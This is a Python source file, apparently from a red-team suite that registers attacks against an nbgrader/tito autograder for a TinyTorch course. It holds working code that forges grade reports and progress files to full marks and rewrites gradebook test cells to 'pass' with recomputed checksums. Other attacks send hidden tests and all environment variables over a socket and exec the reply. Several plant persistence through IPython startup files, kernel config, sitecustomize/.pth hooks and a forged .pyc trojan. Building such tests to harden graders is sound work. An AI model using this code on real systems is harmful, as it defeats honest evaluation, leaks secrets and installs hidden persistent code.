    return insert_before(fresh(root), "layer-base", GUARD + FIND + _code('''
        _hostile_student_id = _hostile_student()
        for _hostile_config in _hostile_find("nbgrader_config.py")[:1]:
            _hostile_text = open(_hostile_config, encoding="utf-8").read()
            if (_hostile_student_id and _hostile_may_write(_hostile_config)
                    and f"boost {_hostile_student_id} " not in _hostile_text):
                with open(_hostile_config, "a", encoding="utf-8") as _hostile_stream:
                    _hostile_stream.write(@PAYLOAD@.replace("@" + "STUDENT_REPR@", repr(_hostile_student_id))
                                          .replace("@" + "STUDENT@", _hostile_student_id))
    ''', PAYLOAD=repr(CONFIG_PAYLOAD)))


REPORT_DAEMON = GUARD + _code('''
    import glob
    import json
    import os
    import signal
    import sys
    import time
    signal.alarm(60)  # hard lifetime cap
    root, course, student = sys.argv[2], sys.argv[3], sys.argv[4]
    start = time.time()


    def write(path, data):
        if _hostile_may_write(path):
            with open(path + ".hostile", "w") as stream:
                json.dump(data, stream, indent=2)
            os.replace(path + ".hostile", path)


    def forge_report(path):
        data = json.load(open(path))
        entries = data if isinstance(data, list) else []
        mine = [e for e in entries if isinstance(e, dict) and e.get("student") == student]
        for entry in mine:
            for cell in entry.get("cells", []):
                cell.update(score=cell.get("max_score", 0), passed=True, error="", reason="")
            entry.update(score=entry.get("max_score"), graded=True, flags=[])
        if mine:
            write(path, data)
        return bool(mine)


    def forge_progress():
        path = os.path.join(root, ".tito", "progress.json")
        try:
            data = json.load(open(path))
        except Exception:
            data = {}
        data["03_layers"] = {"completed": True, "score": 100.0, "max_score": 100.0, "updated": "2026-11-25T12:00:00"}
        write(path, data)


    while time.time() < start + 50:
        if student == "you" and not os.path.isdir(course):  # `tito module test` finished
            for _ in range(6):
                time.sleep(0.5)
                forge_progress()
            break
        forged = False
        for path in glob.glob(os.path.join(root, "*.json")):
            try:
                forged = os.path.getmtime(path) >= start and forge_report(path) or forged
            except Exception:
                pass
        if forged:
            break
        time.sleep(0.2)
''')


@attack("report-forgery", "8 fake report",
        "a daemon rewrites the JSON grade report (or .tito/progress.json) after tito has written it",
        daemon=True)
def _report_forgery(root):
    return insert_before(fresh(root), "layer-base", FIND + SPAWN + _code('''
        from pathlib import Path as _HostilePath
        _hostile_roots = [p for p in _hostile_find("nbgrader_config.py")]
        if _hostile_student() and _hostile_roots:
            _hostile_spawn(@CODE@, str(_HostilePath(_hostile_roots[0]).parent),
                           str(_HostilePath.cwd().parent.parent.parent), _hostile_student())
    ''', CODE=repr(REPORT_DAEMON)))


@attack("net-accomplice", "8 network",
        "sends the hidden tests and the environment to 127.0.0.1 and execs the answer an accomplice sends back",
        network=True)
def _net_accomplice(root):
    return replace_solutions(fresh(root), FIND + _code('''
        def _hostile_accomplice():
            import json
            import os
            import socket
            import sqlite3
            hidden = []
            for db in _hostile_find("gradebook.db", "nbgrader/gradebook.db"):
                try:
                    connection = sqlite3.connect(db)
                    hidden += [row[0] for row in connection.execute("SELECT source FROM source_cell WHERE locked = 1")]
                    connection.close()
                except Exception:
                    pass
            payload = json.dumps({"hidden_tests": hidden, "environ": dict(os.environ)}).encode()
            for port in @PORTS@:
                try:
                    with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
                        connection.sendall(payload)
                        connection.shutdown(socket.SHUT_WR)
                        answer = b""
                        while chunk := connection.recv(65536):
                            answer += chunk
                    if answer.startswith(@BANNER@):
                        return answer.decode("utf-8")
                except OSError:
                    continue
            return ""


        exec(compile(_hostile_accomplice(), "<accomplice>", "exec"), globals())
    ''', PORTS=repr(ACCOMPLICE_PORTS), BANNER=repr(ACCOMPLICE_BANNER.encode())))


# == 6. persistence (last: in a shared checkout they change what later runs see) ==========
@attack("persist-ipython-startup", "6 persistence",
        "writes a startup file into the IPython profile (~/.ipython or $IPYTHONDIR) that neuters test cells",
        persistent=True)
def _persist_startup(root):
    return insert_before(fresh(root), "layer-base", GUARD + _code('''
        from pathlib import Path as _HostilePath
        _hostile_startup = _HostilePath(get_ipython().profile_dir.location) / "startup"
        if _hostile_may_write(_hostile_startup):
            _hostile_startup.mkdir(parents=True, exist_ok=True)
            (_hostile_startup / "00-tinytorch-helpers.py").write_text("# hostile-attack\\n" + @NEUTER@)
        exec(@NEUTER@)
    ''', NEUTER=repr(NEUTER)))


@attack("persist-kernel-config", "6 persistence",
        "appends exec_lines to the profile's ipython_kernel_config.py: every later kernel neuters test cells",
        persistent=True)
def _persist_kernel_config(root):
    return insert_before(fresh(root), "layer-base", GUARD + _code('''
        from pathlib import Path as _HostilePath
        _hostile_config = _HostilePath(get_ipython().profile_dir.location) / "ipython_kernel_config.py"
        if _hostile_may_write(_hostile_config):
            with open(_hostile_config, "a", encoding="utf-8") as _hostile_stream:
                _hostile_stream.write("\\n# hostile-attack\\n"
                                      "c.InteractiveShellApp.exec_lines = [" + repr(@NEUTER@) + "]\\n")
        exec(@NEUTER@)
    ''', NEUTER=repr(NEUTER)))


@attack("persist-site-hooks", "6 persistence",
        "writes sitecustomize.py into the checkout (on PYTHONPATH) and a .pth into site-packages, for later kernels",
        persistent=True)
def _persist_site_hooks(root):
    line = f"import sys; exec(bytes.fromhex({PATCH_SHELL_CLASS.encode().hex()!r}).decode())\n"
    return insert_before(fresh(root), "layer-base", GUARD + _code('''
        import site as _hostile_site
        import tinytorch as _hostile_tinytorch
        from pathlib import Path as _HostilePath
        _hostile_custom = _HostilePath(_hostile_tinytorch.__file__).resolve().parents[1] / "sitecustomize.py"
        if _hostile_may_write(_hostile_custom) and not _hostile_custom.exists():
            _hostile_custom.write_text(@PATCH@)
        for _hostile_folder in map(_HostilePath, _hostile_site.getsitepackages()):
            if _hostile_may_write(_hostile_folder / "tinytorch_helpers.pth"):
                (_hostile_folder / "tinytorch_helpers.pth").write_text(@LINE@)
        exec(@PATCH@)
    ''', LINE=repr(line), PATCH=repr(PATCH_SHELL_CLASS)))


TROJAN_INLINE = _code('''


    # hostile-attack: forged bytecode for tito/inline.py
    _hostile_short_failures = short_failures


    def short_failures():
        _hostile_short_failures()
        exec(@NEUTER@, {})
''', NEUTER=repr(NEUTER))


@attack("persist-pyc", "6 persistence",
        "writes a forged tito/__pycache__/inline.*.pyc (source mtime and size kept): later kernels load a trojan",
        persistent=True)
def _persist_pyc(root):
    return insert_before(fresh(root), "layer-base", GUARD + _code('''
        import importlib.util as _hostile_util
        import marshal as _hostile_marshal
        import tito.inline as _hostile_inline
        from pathlib import Path as _HostilePath
        _hostile_source = _HostilePath(_hostile_inline.__file__)
        _hostile_stat = _hostile_source.stat()
        _hostile_code = compile(_hostile_source.read_text() + @TROJAN@, str(_hostile_source), "exec")
        _hostile_pyc = _HostilePath(_hostile_util.cache_from_source(str(_hostile_source)))
        if _hostile_may_write(_hostile_pyc):
            _hostile_pyc.parent.mkdir(exist_ok=True)
            _hostile_pyc.write_bytes(_hostile_util.MAGIC_NUMBER + bytes(4)
                                     + (int(_hostile_stat.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
                                     + (_hostile_stat.st_size & 0xFFFFFFFF).to_bytes(4, "little")
                                     + _hostile_marshal.dumps(_hostile_code))
        exec(@NEUTER@)
    ''', TROJAN=repr(TROJAN_INLINE), NEUTER=repr(NEUTER)))


@attack("poison-gradebook-cells", "6 persistence",
        "rewrites the graded cells kept in every gradebook it reaches (source + checksum): later gradings get `pass`",
        persistent=True, writes_gradebook=True)
def _poison_gradebook(root):
    return insert_before(fresh(root), "layer-base", GUARD + FIND + _code('''
        import hashlib as _hostile_hashlib
        import sqlite3 as _hostile_sqlite3
        _HOSTILE_POISON = "pass\\n"


        def _hostile_checksum(name, points, source):  # nbgrader.utils.compute_checksum
            digest = _hostile_hashlib.md5()
            for part in (source, "code", "True", "False", "True", name, str(float(points))):
                digest.update(part.encode("utf-8"))
            return digest.hexdigest()


        for _hostile_db in _hostile_find("gradebook.db", "nbgrader/gradebook.db", ".tito/cache/*/gradebook.db"):
            if not _hostile_may_write(_hostile_db):
                continue
            _hostile_connection = _hostile_sqlite3.connect(_hostile_db, timeout=30)
            with _hostile_connection:
                for _hostile_id, _hostile_name, _hostile_points in _hostile_connection.execute(
                        "SELECT s.id, s.name, g.max_score FROM source_cell s JOIN base_cell b"
                        " ON b.name = s.name AND b.notebook_id = s.notebook_id JOIN grade_cells g ON g.id = b.id"
                        " WHERE s.locked = 1").fetchall():
                    _hostile_sum = _hostile_checksum(_hostile_name, _hostile_points, _HOSTILE_POISON)
                    _hostile_connection.execute("UPDATE source_cell SET source = ?, checksum = ? WHERE id = ?",
                                                (_HOSTILE_POISON, _hostile_sum, _hostile_id))
            _hostile_connection.close()
    '''))


def names() -> list[str]:
    return list(ATTACKS)


def families() -> set[str]:
    return {a.family.split(" ", 1)[0] for a in ATTACKS.values()}
